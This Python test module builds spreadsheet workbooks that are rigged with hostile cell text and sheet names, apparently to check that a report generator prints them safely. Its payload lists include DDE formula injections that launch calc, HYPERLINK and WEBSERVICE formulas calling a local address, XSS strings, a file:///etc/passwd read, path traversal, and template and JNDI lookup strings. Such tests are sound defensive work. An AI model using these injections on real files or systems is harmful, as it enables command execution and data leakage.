"""Texts that would be a formula, a script, a command or a trick to the eye where a report printed them as they are."""

from __future__ import annotations

from collections.abc import Callable
from xml.sax.saxutils import escape, quoteattr

from hostile_case import (BASIC, COVER, HEADCOUNT, TOLD, WHOLE, WORKBOOK, Hostile, clean_parts, package,
                          with_cell)

TEXTS = (
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"点这里")', "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", '=WEBSERVICE("http://127.0.0.1:9")', "{=1+1}", "\t=1+1", "\r=1+1", "＝1+1",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "'><svg/onload=alert(1)>",
    "javascript:alert(1)", "file:///etc/passwd", "http://127.0.0.1:9/", "external:[1]a!A1", "internal:a!A1",
    "_x001B_[31m红_x0007_", "_x0000_", "_xD800_", "_x202E_反", "a\u202eb\u2066c", "{{7*7}}", "{0.__class__}", "%s%n", "${jndi:x}",
    "../../../../tmp/jixiao", "甲/../../乙", "CON", "]]>", "&amp;", "&#x1b;", "第一行\n第二行", "x" * 10_000, "\ufeff\ufffd\U0001f600",
)


SHEETS = ("=HYPERLINK(1)", "a'!A1", "<script>", "javascript:alert(1)", "#REF!", "http:∕∕a", "反\u202e", "甲\n乙", "[1]甲", "长" * 200,
          "_x001B_[31m", "' onclick='x")


def everywhere(text: str) -> Callable[[], bytes]:
    """As the unit's name, in a cell for a number, in one for words, and as labels."""
    content = f'<is><t xml:space="preserve">{escape(text, {chr(13): "&#13;"})}</t></is>'

    def make() -> bytes:
        parts = clean_parts()
        for cell, part in {"C4": COVER, "B5": BASIC, "A8": BASIC, "A3": WHOLE, "B3": WHOLE}.items():
            parts[part] = with_cell(parts[part], cell, content, "inlineStr")
        return package(parts)
    return make


def sheet_named(name: str) -> Callable[[], bytes]:
    """A form on a sheet of that name, its defined names leading there, and a number missing."""
    quoted = escape(name.replace("'", "''"))

    def make() -> bytes:
        parts = {part: data.replace("'基础数据表'!".encode(), f"'{quoted}'!".encode()) for part, data in clean_parts().items()}
        book = parts[WORKBOOK].decode().replace('<sheet name="基础数据表"', f"<sheet name={quoteattr(name)}")
        book = book.replace(">基础数据表!", f">'{quoted}'!")
        return package(parts | {WORKBOOK: book.encode(), BASIC: with_cell(parts[BASIC], HEADCOUNT, "", "")})
    return make


CASES: dict[str, Hostile] = {
    **{f"text {text[:30]!r}": Hostile(everywhere(text), TOLD) for text in TEXTS},
    **{f"sheet {name[:30]!r}": Hostile(sheet_named(name), TOLD) for name in SHEETS},
}
